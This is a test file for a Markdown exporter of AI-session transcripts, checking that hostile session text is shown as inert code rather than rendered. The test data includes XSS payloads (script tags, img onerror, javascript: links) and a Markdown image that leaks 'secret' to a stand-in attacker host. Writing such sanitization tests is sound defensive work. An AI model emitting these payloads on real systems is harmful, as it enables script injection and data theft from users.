import fc from 'fast-check';
import { micromark } from 'micromark';
import { gfm, gfmHtml } from 'micromark-extension-gfm';
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import ReactMarkdown from 'react-markdown';
import remarkGfm from 'remark-gfm';
import { describe, expect, it } from 'vitest';
import { exportMarkdown } from './markdown';
import { documentText } from './text';
import type { Element } from './testing';
import { collect, detailOf, hostile, hostileSession, pagesOf, parsed, textContent, turn } from './testing';

/** What Markdown itself makes; anything else in the rendered page came from raw HTML in session text. */
const markdownTags = new Set(
  `h1 h2 h3 h4 h5 h6 p ul ol li strong em del code
  pre blockquote hr br a table thead tbody tr th td input sup section`.split(/\s+/),
);

/** A viewer that passes raw HTML through, as GitHub and many editors' previews do. */
function permissiveView(markdown: string): string {
  return micromark(markdown, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });
}

/** The app's own renderer, as "copy as Markdown" would be pasted into it: no rehype-raw. */
function appView(markdown: string): string {
  return renderToStaticMarkup(createElement(ReactMarkdown, { remarkPlugins: [remarkGfm] }, markdown));
}

function expectNoLiveMarkup(html: string): Element[] {
  const { elements } = parsed(html, true);
  expect(elements.map((element) => element.tagName).filter((tag) => !markdownTags.has(tag))).toEqual([]);
  for (const element of elements) {
    for (const attr of element.attrs) {
      expect(attr.name).not.toMatch(/^on|^(src|srcset|srcdoc|style|action)$/i);
      if (attr.name === 'href') expect(attr.value).toMatch(/^(https?:\/\/|mailto:|#)/);
    }
  }
  expect(html).not.toMatch(/<script|<img|<svg|<iframe|<style/i);
  return elements;
}

async function hostileExport(): Promise<string> {
  const { detail, turns } = hostileSession();
  return collect(exportMarkdown(detail, pagesOf(turns)));
}

describe('exportMarkdown', () => {
  it('renders no markup from session text, even in a viewer that passes raw HTML', async () => {
    const markdown = await hostileExport();
    expectNoLiveMarkup(permissiveView(markdown));
    expectNoLiveMarkup(appView(markdown));
  });

  it('shows every hostile text and tool result in full', async () => {
    const markdown = await hostileExport();
    const elements = parsed(permissiveView(markdown), true).elements;
    const codes = elements.filter((element) => element.tagName === 'code').map(textContent);
    for (const text of hostile) expect(codes).toContain(`${documentText(text)}\n`);
    const shown = elements.map(textContent).join('\n');
    expect(shown).toContain('<script>alert(1)</script>');
    expect(shown).toContain('<img src=x onerror=alert(1)>');
    expect(shown).toContain('</title><script>alert("title")</script>');
    expect(shown).toContain('Turn 1 · <script>alert("role")</script>');
    expect(shown).toContain('![leak](https://evil.example/leak.png?data=secret)');
    expect(shown).toContain('[click](javascript:alert(1))');
  });

  it('fences tool output past the longest backtick run in it', async () => {
    const result = 'before\n```\n````\n`````js\nafter';
    const turns = [
      turn(0, 'hi', {
        toolCalls: [{ name: 'sh', arguments: { a: 1 }, result, success: true, durationMs: 3 }],
      }),
    ];
    const markdown = await collect(exportMarkdown(detailOf(turns), pagesOf(turns)));
    expect(markdown).toContain('``````\nbefore');
    const codes = parsed(permissiveView(markdown), true).elements.filter(
      (element) => element.tagName === 'code',
    );
    expect(codes.map(textContent)).toEqual([`sh`, '{\n  "a": 1\n}\n', `${result}\n`]);
  });

  it('keeps the Markdown a model wrote, with its safe links', async () => {
    const text =
      '# Plan\n\n- **one** `Vec<String>`\n- see https://example.com and [docs](https://example.com/docs)\n\n```ts\nconst a = 1 < 2;\n```';
    const markdown = await collect(exportMarkdown(detailOf([]), pagesOf([turn(0, text)])));
    const elements = parsed(permissiveView(markdown), true).elements;
    expect(elements.map((element) => element.tagName)).toEqual(
      expect.arrayContaining(['h1', 'ul', 'strong', 'code', 'a', 'pre']),
    );
    const code = elements.filter((element) => element.tagName === 'code').map(textContent);
    expect(code).toEqual(expect.arrayContaining(['Vec<String>', 'const a = 1 < 2;\n']));
    const hrefs = elements.flatMap((element) => element.attrs.filter((attr) => attr.name === 'href'));
    expect(hrefs.map((attr) => attr.value)).toEqual(['https://example.com', 'https://example.com/docs']);
  });

  it('starts with the title and the session facts', async () => {
    const markdown = await collect(
      exportMarkdown(detailOf([turn(0, 'hello')], 'My *session*'), pagesOf([turn(0, 'hello')])),
    );
    expect(markdown).toBe(
      [
        '# My \\*session\\*',
        '',
        '- **Format:** ZeroClaw',
        '- **Session:** session-1',
        '- **Project:** /projects/demo',
        '- **Created:** 2026-11-23T04:00:00.000Z',
        '- **Updated:** 2026-11-23T05:00:00.000Z',
        '- **Turns:** 1',
        '',
        '## Turn 1 · user',
        '',
        '*2026-11-23T05:00:00.000Z*',
        '',
        'hello',
        '',
      ].join('\n'),
    );
  });

  it('shows text too large or too nested to format as written, quickly', async () => {
    const script = '<script>alert(1)</script>';
    for (const text of [
      '*a'.repeat(30_000),
      '- '.repeat(30_000),
      '> '.repeat(30_000),
      'word '.repeat(20_000),
    ]) {
      const markdown = await collect(exportMarkdown(detailOf([]), pagesOf([turn(0, text + script)])));
      const elements = expectNoLiveMarkup(permissiveView(markdown));
      const code = elements.filter((element) => element.tagName === 'code').map(textContent);
      expect(code).toEqual([`${text}${script}\n`]);
    }
  });

  it('never lets arbitrary turn text render as markup', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(
          fc.oneof(fc.constantFrom(...hostile, '<', '>', '`', '\n', '[', '](', '!', '&'), fc.string()),
          {
            maxLength: 12,
          },
        ),
        async (parts) => {
          const text = parts.join('');
          const markdown = await collect(exportMarkdown(detailOf([]), pagesOf([turn(0, text)])));
          expectNoLiveMarkup(permissiveView(markdown));
        },
      ),
    );
  });
});
